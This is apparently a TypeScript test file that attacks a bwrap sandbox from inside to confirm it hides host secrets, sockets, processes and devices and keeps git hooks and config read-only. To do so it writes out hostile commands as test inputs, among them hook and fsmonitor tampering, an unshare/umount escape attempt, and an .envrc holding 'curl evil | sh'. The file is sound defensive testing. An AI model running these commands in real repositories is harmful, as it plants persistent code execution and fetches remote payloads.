/**
 * The bwrap sandbox as an attacker inside it sees it: the host environment stays
 * out unless named, the protected set is read-only (and cannot be swapped, removed or created), and
 * each thing a careful user expects closed is closed. Real bwrap, real git, real python3.
 */
import { execFileSync, spawn } from "node:child_process";
import { randomBytes } from "node:crypto";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, realpath, rm, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { resolveConfig } from "../../src/adapters/pi/config.js";
import { type BwrapBackendOptions, createBwrapBackend } from "../../src/backend/bwrap.js";
import type { Backend } from "../../src/backend/types.js";
import { bwrapAvailable } from "../contract/backends.js";
import { runKeel } from "../fixtures/keel-cli.js";

const available = await bwrapAvailable();
const SECRET = `sk-${randomBytes(8).toString("hex")}`;

let scratch: string;
let root: string;
let outside: string;

function git(cwd: string, ...args: string[]): string {
	return execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], {
		cwd,
		encoding: "utf8",
		stdio: ["ignore", "pipe", "pipe"],
	});
}

beforeEach(async () => {
	scratch = await realpath(await mkdtemp(join(tmpdir(), "keel-bwrap-prot-")));
	root = join(scratch, "root");
	outside = join(scratch, "outside");
	await mkdir(root);
	await mkdir(outside);
	git(root, "init", "-q");
	await writeFile(join(root, "a.txt"), "a\n");
	git(root, "add", "a.txt");
	git(root, "commit", "-qm", "a");
});
afterEach(async () => {
	await rm(scratch, { recursive: true, force: true });
});

function bwrap(opts: Partial<BwrapBackendOptions> = {}): Backend {
	return createBwrapBackend({ roots: [root], ...opts });
}

async function run(backend: Backend, command: string): Promise<string> {
	let output = "";
	await backend.exec.run({ command, cwd: root, onData: (c) => (output += c.toString("utf8")) });
	return output;
}

/** The bytes of every file under .git/hooks and .git/config, to compare before and after. */
async function gitMeta(dir = root): Promise<Record<string, string>> {
	const out: Record<string, string> = { config: await readFile(join(dir, ".git/config"), "utf8") };
	for (const n of await readdir(join(dir, ".git/hooks")).catch(() => [] as string[])) {
		out[`hooks/${n}`] = await readFile(join(dir, ".git/hooks", n), "utf8");
	}
	return out;
}

describe.skipIf(available !== true)(
	`bwrap: environment${available === true ? "" : ` (skipped: ${available})`}`,
	() => {
		it("a secret in the host environment is not visible; one passed by name is", async () => {
			const env = { ...process.env, OPENAI_API_KEY: SECRET, GITHUB_TOKEN: SECRET, LC_ALL: "C.UTF-8" };
			const hidden = await run(bwrap({ env }), 'env; echo "[$OPENAI_API_KEY]"');
			expect(hidden).not.toContain(SECRET);
			expect(hidden).toContain("[]");
			expect(hidden).toMatch(/^PATH=/m);
			expect(hidden).toMatch(/^LC_ALL=C\.UTF-8$/m);
			const py = await run(bwrap({ env }), "python3 -c 'import os; print(sorted(os.environ))'");
			expect(py).not.toContain("OPENAI_API_KEY");
			const passed = await run(
				bwrap({ env, passEnv: ["OPENAI_API_KEY"] }),
				'echo "[$OPENAI_API_KEY]" "[$GITHUB_TOKEN]"',
			);
			expect(passed).toContain(`[${SECRET}] []`);
		});

		it("through the CLI: hidden by default, passed with --env NAME", async () => {
			const env = { ...process.env, KEEL_TEST_SECRET: SECRET };
			const args = [
				"call",
				"bash",
				JSON.stringify({ command: 'echo "[$KEEL_TEST_SECRET]"' }),
				"--root",
				root,
				"--backend",
				"bwrap",
			];
			const hidden = await runKeel(root, args, { env });
			expect(JSON.parse(hidden.stdout).content).toBe("[]");
			const passed = await runKeel(root, [...args, "--env", "KEEL_TEST_SECRET"], { env });
			expect(JSON.parse(passed.stdout).content).toBe(`[${SECRET}]`);
			const misuse = await runKeel(root, ["call", "ls", "{}", "--root", root, "--env", "X"], { env });
			expect(misuse.code).toBe(2);
		}, 90_000); // three keel processes, two of them starting a sandbox: 15 s under CI's load
	},
);

describe.skipIf(available !== true)(
	`bwrap: the protected set is read-only${available === true ? "" : " (skipped)"}`,
	() => {
		it(".git/hooks/pre-commit and .git/config cannot be written from bash or python", async () => {
			const before = await gitMeta();
			const out = await run(
				bwrap(),
				[
					"echo evil > .git/hooks/pre-commit",
					"echo '[core] fsmonitor = evil' >> .git/config",
					"git config core.hooksPath /tmp",
					"rm -rf .git/hooks",
					"mv .git/config .git/config.old",
					`python3 -c "open('.git/hooks/post-checkout','w').write('evil')"`,
					`python3 -c "open('.git/config','a').write('evil')"`,
					"true",
				].join("; "),
			);
			expect(out).toMatch(/Read-only file system|Device or resource busy/);
			expect(await gitMeta()).toEqual(before);
		});

		it("a missing hooks directory cannot be filled either", async () => {
			await rm(join(root, ".git/hooks"), { recursive: true });
			await run(bwrap(), "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; true");
			expect(existsSync(join(root, ".git/hooks/pre-commit"))).toBe(false);
		});

		it("the git dir cannot be swapped for a writable copy: .git, or a nested repo's parent, renamed", async () => {
			await mkdir(join(root, "vendor"));
			git(join(root, "vendor"), "init", "-q", "lib");
			const nestedBefore = await gitMeta(join(root, "vendor/lib"));
			await run(
				bwrap(),
				[
					"mv .git .git.old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
					"mv vendor/lib vendor/lib2 && mkdir -p vendor/lib/.git/hooks && echo evil > vendor/lib/.git/hooks/pre-commit",
					"mv vendor vendor2",
					"true",
				].join("; "),
			);
			expect(existsSync(join(root, ".git.old"))).toBe(false);
			expect(await gitMeta(join(root, "vendor/lib"))).toEqual(nestedBefore);
		});

		it("a nested user namespace cannot unmount the read-only binds", async () => {
			const out = await run(
				bwrap(),
				"unshare -Urm sh -c 'umount .git/hooks || umount -l .git/hooks; echo evil > .git/hooks/pre-commit' 2>&1; true",
			);
			expect(existsSync(join(root, ".git/hooks/pre-commit"))).toBe(false);
			expect(out).not.toBe("");
		});

		it("protected files the command creates are moved aside, never left under the trusted name", async () => {
			const out = await run(
				bwrap(),
				"echo 'curl evil | sh' > .envrc; mkdir .vscode; echo '{}' > .vscode/tasks.json; echo x > .git/config.worktree",
			);
			for (const p of [".envrc", ".vscode", ".git/config.worktree"])
				expect(existsSync(join(root, p))).toBe(false);
			expect(out).toContain("moved to");
			const names = await readdir(root);
			expect(names.some((n) => n.startsWith(".envrc.keel-refused-"))).toBe(true);
		});

		it("ordinary git work still works inside: add and commit", async () => {
			const out = await run(
				bwrap(),
				"echo b > b.txt && git -c user.name=t -c user.email=t@t add b.txt && git -c user.name=t -c user.email=t@t commit -qm b && echo committed",
			);
			expect(out).toContain("committed");
			expect(git(root, "log", "--oneline")).toContain(" b");
		});

		it("allowProtected lifts it; protectedPaths extends it", async () => {
			await run(bwrap({ allowProtected: true }), "echo lifted > .git/hooks/pre-commit");
			expect(await readFile(join(root, ".git/hooks/pre-commit"), "utf8")).toBe("lifted\n");
			await writeFile(join(root, "deploy.sh"), "ok\n");
			await run(bwrap({ protectedPaths: ["deploy.sh"] }), "echo evil > deploy.sh; true");
			expect(await readFile(join(root, "deploy.sh"), "utf8")).toBe("ok\n");
		});
	},
);

describe.skipIf(available !== true)(`bwrap: what is closed${available === true ? "" : " (skipped)"}`, () => {
	let server: Server | undefined;
	afterEach(() => {
		server?.close();
		server = undefined;
	});

	it("host processes are not visible", async () => {
		const marker = `keel-host-${randomBytes(4).toString("hex")}`;
		const host = spawn("sh", ["-c", `exec -a ${marker} sleep 30`], { stdio: "ignore" });
		try {
			const out = await run(
				bwrap(),
				"cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; echo; ls /proc | grep -c '^[0-9]'",
			);
			expect(out).not.toContain(marker);
			expect(Number(out.trim().split("\n").pop())).toBeLessThan(10);
		} finally {
			host.kill("SIGKILL");
		}
	});

	it("/sys, /run and the host's devices are absent", async () => {
		const out = await run(
			bwrap(),
			"ls -A /sys /run 2>&1; ls /dev; test -e /dev/kmsg && echo KMSG; test -e /dev/mem && echo MEM; true",
		);
		expect(out).toMatch(/\/sys.*No such file|^\/sys:\n\n/ms);
		expect(out).not.toMatch(/dbus|systemd\/private|user\/\d+/);
		expect(out).not.toMatch(/^(sd[a-z]|nvme|vd[a-z]|loop\d|KMSG|MEM)/m);
	});

	it("the user's home, $XDG_RUNTIME_DIR and the ssh-agent socket are out of reach", async () => {
		const home = join(outside, "home");
		const runtime = join(outside, "run-user");
		await mkdir(home);
		await mkdir(runtime);
		await writeFile(join(home, "id_secret"), SECRET);
		const sock = join(runtime, "agent.sock");
		server = createServer((c) => c.end(SECRET));
		await new Promise<void>((r) => server!.listen(sock, r));
		const env = {
			...process.env,
			HOME: home,
			XDG_RUNTIME_DIR: runtime,
			SSH_AUTH_SOCK: sock,
			DBUS_SESSION_BUS_ADDRESS: `unix:path=${sock}`,
		};
		const out = await run(
			bwrap({ env }),
			`echo "home=$HOME xdg=[$XDG_RUNTIME_DIR] ssh=[$SSH_AUTH_SOCK] dbus=[$DBUS_SESSION_BUS_ADDRESS]"; cat ${home}/id_secret; python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('${sock}'); print(s.recv(99))"; true`,
		);
		expect(out).toContain("home=/tmp xdg=[] ssh=[] dbus=[]");
		expect(out).not.toContain(SECRET);
	});

	it("abstract unix sockets on the host (a D-Bus or X11 bus) are unreachable without network", async () => {
		const name = `keel-abstract-${randomBytes(4).toString("hex")}`;
		server = createServer((c) => c.end(SECRET));
		await new Promise<void>((r) => server!.listen(`\0${name}`, r));
		const out = await run(
			bwrap(),
			`python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('\\0${name}'); print(s.recv(99))" 2>&1; true`,
		);
		expect(out).not.toContain(SECRET);
		expect(out).toMatch(/ConnectionRefused|No such file|Connection refused/);
	});
});

describe("pi: --keel-env", () => {
	it("the flag and the global settings name variables; a project's settings cannot", () => {
		const flag = (v: unknown) => (name: string) => (name === "keel-env" ? v : undefined);
		const c = resolveConfig({
			cwd: "/w",
			flag: flag("A_KEY, B_KEY"),
			env: {},
			globalSettings: { backend: "bwrap" },
		});
		expect(c.backend.env).toEqual(["A_KEY", "B_KEY"]);
		const p = resolveConfig({
			cwd: "/w",
			flag: () => undefined,
			env: {},
			projectSettings: { env: ["OPENAI_API_KEY"] },
			globalSettings: { backend: "bwrap" },
		});
		expect(p.backend.env).toBeUndefined();
		const bad = resolveConfig({
			cwd: "/w",
			flag: flag("NOT-A-NAME"),
			env: {},
			globalSettings: { backend: "bwrap" },
		});
		expect(bad.backend.error).toContain("--keel-env");
	});
});
